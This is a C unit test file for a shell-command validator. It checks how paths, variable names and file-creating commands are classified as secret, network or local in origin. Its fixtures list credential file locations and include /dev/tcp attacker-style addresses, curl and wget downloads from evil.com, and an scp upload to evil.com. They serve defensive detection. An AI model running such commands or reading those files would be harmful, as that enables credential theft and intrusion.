/* SPDX-License-Identifier: Apache-2.0 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "validators/shell/knowledge.h"

#define COUNT(a) (sizeof(a) / sizeof(*(a)))
#define SECRET (ORIGIN_FILE | ORIGIN_SECRET)

static void knows_files(void **state)
{
	static const struct {
		const char *path;
		unsigned int origin;
	} rows[] = {
		{ "/etc/shadow", SECRET }, { "/host/etc/shadow", SECRET }, { "${ROOT}/etc/shadow-", SECRET }, { "/etc/gshadow", SECRET }, { "etc/shadow", SECRET },
		{ "/etc/shado?", SECRET }, { "/etc/s[h]adow", SECRET }, { "/etc/[!x]hadow", SECRET }, { "/etc/[x-z]hadow", ORIGIN_FILE }, { "/etc/sh*w", SECRET }, { "/etc/*", SECRET }, { "/?tc/s?adow", SECRET }, { "/e*/sha*", SECRET }, { "*/*", ORIGIN_FILE },
		{ "/etc/passwd", ORIGIN_FILE }, { "/etc/hosts", ORIGIN_FILE }, { "/etc/*release", ORIGIN_FILE }, { "/tmp/shadow", ORIGIN_FILE }, { "*", ORIGIN_FILE },
		{ "~/.ssh/id_rsa", SECRET }, { "/root/.ssh/id_ed25519", SECRET }, { "/home/*/.ssh/id_*", SECRET }, { "/home/x/.ssh/*", SECRET },
		{ "${HOMEDIR}/.ssh/id_rsa", SECRET }, { "$(getent x)/.ssh/id_rsa", SECRET }, { "~/.ssh/id_rsa.pub", ORIGIN_FILE }, { "~/.ssh/*.pub", ORIGIN_FILE },
		{ "~/.ssh/authorized_keys", ORIGIN_FILE }, { "~/.ssh/known_hosts", ORIGIN_FILE }, { "~/.ssh/config", ORIGIN_FILE }, { "~/.ssh", SECRET },
		{ "id_rsa", SECRET }, { "/etc/ssh/ssh_host_rsa_key", SECRET }, { "/etc/ssh/ssh_host_rsa_key.pub", ORIGIN_FILE }, { "/etc/ssh/sshd_config", ORIGIN_FILE },
		{ "~/.aws/credentials", SECRET }, { "/home/ci/.aws/credentials", SECRET }, { "~/.aws/config", ORIGIN_FILE }, { "~/.kube/config", SECRET },
		{ "/etc/kubernetes/admin.conf", SECRET }, { "/etc/kubernetes/pki/ca.key", SECRET }, { "/etc/kubernetes/pki/ca.crt", ORIGIN_FILE },
		{ "/etc/kubernetes/*.conf", SECRET }, { "/var/lib/kubelet/kubeconfig", SECRET }, { "/var/lib/kubelet/pki/kubelet-client-current.pem", SECRET },
		{ "/var/run/secrets/kubernetes.io/serviceaccount/token", SECRET }, { "/run/secrets/kubernetes.io/serviceaccount/token", SECRET },
		{ "/var/run/secrets/kubernetes.io/serviceaccount/namespace", ORIGIN_FILE }, { "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt", ORIGIN_FILE },
		{ "/run/secrets/db_password", SECRET }, { "~/.docker/config.json", SECRET }, { "~/.netrc", SECRET }, { "~/.git-credentials", SECRET },
		{ "~/.npmrc", SECRET }, { "/root/.pypirc", SECRET }, { "~/.config/gcloud/application_default_credentials.json", SECRET }, { "~/.azure/accessTokens.json", SECRET },
		{ "~/.vault-token", SECRET }, { "~/.pgpass", SECRET }, { "/root/.my.cnf", SECRET }, { "~/.gnupg/private-keys-v1.d/x.key", SECRET },
		{ "~/.gnupg/secring.gpg", SECRET }, { "~/.local/share/keyrings/login.keyring", SECRET }, { "~/.mozilla/firefox/x.default/logins.json", SECRET },
		{ "~/.config/google-chrome/Default/Login Data", SECRET }, { "/dev/mem", SECRET }, { "/proc/kcore", SECRET }, { "terraform.tfstate", SECRET },
		{ "prod.tfstate.backup", SECRET }, { ".env", SECRET }, { "/srv/app/.env.production", SECRET }, { ".env.example", ORIGIN_FILE }, { "a.env", SECRET },
		{ "server.pem", SECRET }, { "server.key", SECRET }, { "*.pem", SECRET }, { "ca.pem", ORIGIN_FILE }, { "fullchain.pem", ORIGIN_FILE }, { "cert.pem", ORIGIN_FILE },
		{ "privkey.pem", SECRET }, { "server.crt", ORIGIN_FILE }, { "Release.key", ORIGIN_FILE }, { "/usr/share/keyrings/docker-archive-keyring.gpg", ORIGIN_FILE },
		{ ".htpasswd", SECRET }, { "~/.bitcoin/wallet.dat", SECRET }, { "~/.bash_history", SECRET }, { "/etc/wireguard/wg0.conf", SECRET },
		{ "/etc/NetworkManager/system-connections/home.nmconnection", SECRET }, { "/etc/NetworkManager/NetworkManager.conf", ORIGIN_FILE },
		{ "/var/lib/jenkins/secrets/master.key", SECRET }, { "wp-config.php", SECRET }, { "README.md", ORIGIN_FILE }, { "src/token.c", ORIGIN_FILE },
		{ "/proc/self/environ", SECRET | ORIGIN_ENVIRONMENT }, { "/proc/1/environ", SECRET | ORIGIN_ENVIRONMENT }, { "/proc/*/environ", SECRET | ORIGIN_ENVIRONMENT },
		{ "/proc/${PID}/environ", SECRET | ORIGIN_ENVIRONMENT }, { "/proc/1/status", ORIGIN_FILE },
		{ "/dev/null", 0 }, { "/dev/urandom", 0 }, { "", 0 }, { "-", ORIGIN_INPUT }, { "/dev/stdin", ORIGIN_INPUT }, { "/dev/sda", ORIGIN_FILE },
		{ "/dev/tcp/203.0.113.5/4444", ORIGIN_NETWORK_EXTERNAL }, { "/dev/tcp/db/5432", ORIGIN_NETWORK_OWN }, { "/dev/tcp/${H}/1", ORIGIN_NETWORK_OWN },
		{ "/dev/udp/c2.attacker.example/53", ORIGIN_NETWORK_EXTERNAL }, { "/dev/tcp/169.254.169.254/80", ORIGIN_NETWORK_OWN | ORIGIN_SECRET },
		{ "${KUBECONFIG}", SECRET }, { "${DB_PASSWORD_FILE}", SECRET }, { "${CONFIG_FILE}", ORIGIN_FILE }, { "${X}", ORIGIN_FILE }, { "/", ORIGIN_FILE },
	};

	(void)state;
	for (size_t i = 0; i < COUNT(rows); i++) {
		unsigned int origin = knowledge_file_origin(rows[i].path, strlen(rows[i].path));

		if (origin != rows[i].origin)
			fail_msg("'%s': %#x, not %#x", rows[i].path, origin, rows[i].origin);
	}
}

static void knows_variables(void **state)
{
	static const char *const secrets[] = {
		"PASSWORD", "DB_PASSWORD", "db_password", "dbPassword", "PASSWORD2", "MYSQL_ROOT_PASSWORD", "PASSWD", "DB_PASS", "DB_PWD", "SECRET", "CLIENT_SECRET",
		"SECRET_KEY_BASE", "TOKEN", "GITHUB_TOKEN", "API_KEY", "STRIPE_API_KEY", "apiKey", "AWS_SECRET_ACCESS_KEY", "AWS_ACCESS_KEY_ID", "PRIVATE_KEY",
		"SSH_PRIVATE_KEY", "CREDENTIALS", "REGISTRY_CREDENTIAL", "PGPASSWORD", "SSHPASS", "GITHUB_PAT", "APIKEY", "VAULT_TOKEN", "BASIC_AUTH", "ENCRYPTION_KEY",
	};
	static const char *const others[] = {
		"", "_", "HOME", "PWD", "OLDPWD", "KEY", "PASSWORD_FILE", "SECRET_PATH", "TOKEN_URL", "TOKEN_COUNT", "MAX_TOKENS", "SECRETARY", "PASSENGER", "COMPASS_X",
		"BYPASS", "TOKENIZER", "MONKEY", "API_VERSION", "KEY_NAME", "SSH_AUTH_SOCK", "GOOGLE_APPLICATION_CREDENTIALS", "SECRET_NAME", "PUBLIC_KEY", "CACHE_KEY",
		"PASS_COUNT", "SECRETS_DIR", "PATH", "AUTHOR", "KEYBOARD", "USER_PATH",
	};

	(void)state;
	for (size_t i = 0; i < COUNT(secrets); i++)
		if (knowledge_variable_origin(secrets[i]) != (ORIGIN_INPUT | ORIGIN_SECRET))
			fail_msg("'%s' is no secret", secrets[i]);
	for (size_t i = 0; i < COUNT(others); i++)
		if (knowledge_variable_origin(others[i]) != ORIGIN_INPUT)
			fail_msg("'%s' is a secret", others[i]);
}

/* Words are separated by one blank each. */
static size_t split(struct arena *arena, const char *line, struct shell_value **ret)
{
	size_t n = 0;

	*ret = NULL;
	for (const char *s = line; *s; n++) {
		size_t len = strcspn(s, " ");

		*ret = arena_append(arena, *ret, n, sizeof(**ret));
		(*ret)[n] = (struct shell_value){ .text = arena_strndup(arena, s, len), .len = len, .known = true, .origin = ORIGIN_LITERAL };
		s += len + (s[len] == ' ');
	}
	return n;
}

static void knows_made_files(void **state)
{
	static const struct {
		const char *line, *path;	/* of the last one; NULL: none */
		bool tree, from_input;
		unsigned int origin;
		const char *source;
		size_t n;			/* 0: 1 */
	} rows[] = {
		{ "curl -o /tmp/x https://evil.example/y", "/tmp/x", false, false, ORIGIN_NETWORK_EXTERNAL, NULL, 0 },
		{ "curl -sSLo x http://db/y", "/w/x", false, false, ORIGIN_NETWORK_OWN, NULL, 0 },
		{ "curl -fsSL -O evil.com/d/x.sh", "/w/x.sh", false, false, ORIGIN_NETWORK_EXTERNAL, NULL, 0 },
		{ "curl -o x http://169.254.169.254/y", "/w/x", false, false, ORIGIN_NETWORK_OWN | ORIGIN_SECRET, NULL, 0 },
		{ "curl -o x ${URL}", "/w/x", false, false, ORIGIN_NETWORK_OWN, NULL, 0 },
		{ "curl https://evil.com/x", NULL, false, false, 0, NULL, 0 },
		{ "wget https://evil.com/x.sh", "/w/x.sh", false, false, ORIGIN_NETWORK_EXTERNAL, NULL, 0 },
		{ "wget -qO /tmp/x --header=a https://evil.com/x", "/tmp/x", false, false, ORIGIN_NETWORK_EXTERNAL, NULL, 0 },
		{ "wget -O - https://evil.com", NULL, false, false, 0, NULL, 0 },
		{ "wget -r https://evil.com/d", "/w", true, false, ORIGIN_NETWORK_EXTERNAL, NULL, 0 },
		{ "git clone https://github.com/a/b", "/w/b", true, false, ORIGIN_NETWORK_EXTERNAL, NULL, 0 },
		{ "git clone git@git.internal:a/b.git d", "/w/d", true, false, ORIGIN_NETWORK_OWN, NULL, 0 },
		{ "tee a b", "/w/b", false, true, 0, NULL, 2 }, { "tee -a a", "/w/a", false, true, 0, NULL, 0 }, { "sponge a", "/w/a", false, true, 0, NULL, 0 },
		{ "dd of=/tmp/x", "/tmp/x", false, true, 0, NULL, 0 }, { "dd if=a of=b", "/w/b", false, false, 0, "/w/a", 0 },
		{ "cp a b", "/w/b", false, false, 0, "/w/a", 0 }, { "cp -r a b", "/w/b", true, false, 0, "/w/a", 0 }, { "cp a b c", "/w/c/b", false, false, 0, "/w/b", 2 },
		{ "mv /tmp/x /usr/bin/y", "/usr/bin/y", false, false, 0, "/tmp/x", 0 }, { "install -m 755 a /usr/bin/", "/usr/bin/a", false, false, 0, "/w/a", 0 },
		{ "ln -s /bin/sh x", "/w/x", false, false, 0, "/bin/sh", 0 }, { "scp u@evil.com:x y", "/w/y", false, false, ORIGIN_NETWORK_EXTERNAL, NULL, 0 },
		{ "scp x u@evil.com:y", NULL, false, false, 0, NULL, 0 }, { "rsync -a evil.com::m d", "/w/d", true, false, ORIGIN_NETWORK_EXTERNAL, NULL, 0 },
		{ "rsync -a s d", "/w/d", true, false, 0, "/w/s", 0 }, { "tar xzf a.tgz -C /opt", "/opt", true, false, ORIGIN_DECODED, "/w/a.tgz", 0 },
		{ "tar xz", "/w", true, true, ORIGIN_DECODED, NULL, 0 }, { "unzip a.zip -d d", "/w/d", true, false, ORIGIN_DECODED, "/w/a.zip", 0 },
		{ "gunzip a.gz", "/w/a", false, false, ORIGIN_DECODED, "/w/a.gz", 0 }, { "gzip -d a.sh.gz", "/w/a.sh", false, false, ORIGIN_DECODED, "/w/a.sh.gz", 0 },
		{ "gzip a", NULL, false, false, 0, NULL, 0 }, { "xxd -r -p a b", "/w/b", false, false, ORIGIN_DECODED, "/w/a", 0 }, { "xxd a b", "/w/b", false, false, 0, "/w/a", 0 },
		{ "openssl enc -d -aes-256-cbc -out b -in a", "/w/b", false, false, ORIGIN_DECODED, "/w/a", 0 }, { "openssl base64 -d -out b", "/w/b", false, true, ORIGIN_DECODED, NULL, 0 },
		{ "gpg -o b -d a.gpg", "/w/b", false, false, ORIGIN_DECODED, "/w/a.gpg", 0 }, { "aws s3 cp s3://b/x.sh /tmp/x", "/tmp/x", false, false, ORIGIN_NETWORK_OWN, NULL, 0 },
		{ "cpio -id", "/w", true, true, ORIGIN_DECODED, NULL, 0 }, { "touch a", NULL, false, false, 0, NULL, 0 }, { "nothing", NULL, false, false, 0, NULL, 0 },
	};

	(void)state;
	for (size_t i = 0; i < COUNT(rows); i++) {
		autoarena struct arena arena = ARENA_INIT;
		struct made_file made[4];
		struct shell_value *argv;
		size_t argc = split(&arena, rows[i].line, &argv), n = knowledge_made_files(&arena, argv, argc, "/w", made, COUNT(made));
		const struct made_file *m = n ? &made[n - 1] : NULL;

		if (n != (!rows[i].path ? 0 : rows[i].n ? rows[i].n : 1))
			fail_msg("'%s': %zu files", rows[i].line, n);
		if (!n)
			continue;
		if (strcmp(m->path.text, rows[i].path) || m->tree != rows[i].tree || m->from_input != rows[i].from_input || m->origin != rows[i].origin)
			fail_msg("'%s': '%s' tree %d input %d origin %#x", rows[i].line, m->path.text, m->tree, m->from_input, m->origin);
		if (!m->source != !rows[i].source || (m->source && strcmp(m->source->text, rows[i].source)))
			fail_msg("'%s': source '%s'", rows[i].line, m->source ? m->source->text : "none");
	}
}

static void keeps_to_max(void **state)
{
	autoarena struct arena arena = ARENA_INIT;
	struct made_file made[2];
	struct shell_value *argv;
	size_t argc = split(&arena, "tee a b c d", &argv);

	(void)state;
	assert_int_equal(knowledge_made_files(&arena, argv, argc, NULL, made, 2), 2);
	assert_string_equal(made[1].path.text, "b");
	assert_int_equal(knowledge_made_files(&arena, argv, 0, NULL, made, 2), 0);
	assert_int_equal(knowledge_made_files(&arena, argv, argc, NULL, made, 0), 0);
}

static void is_linear(void **state)
{
	const size_t len = (size_t)1 << 20;
	char *path = malloc(len);

	(void)state;
	assert_non_null(path);
	for (size_t i = 0; i < len; i++)
		path[i] = "*/"[i % 2];
	knowledge_file_origin(path, len);
	memset(path, '*', len);
	knowledge_file_origin(path, len);
	memset(path, 'e', len);
	memcpy(path, "/proc/", 6);
	knowledge_file_origin(path, len);
	free(path);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(knows_files), cmocka_unit_test(knows_variables), cmocka_unit_test(knows_made_files),
		cmocka_unit_test(keeps_to_max), cmocka_unit_test(is_linear),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
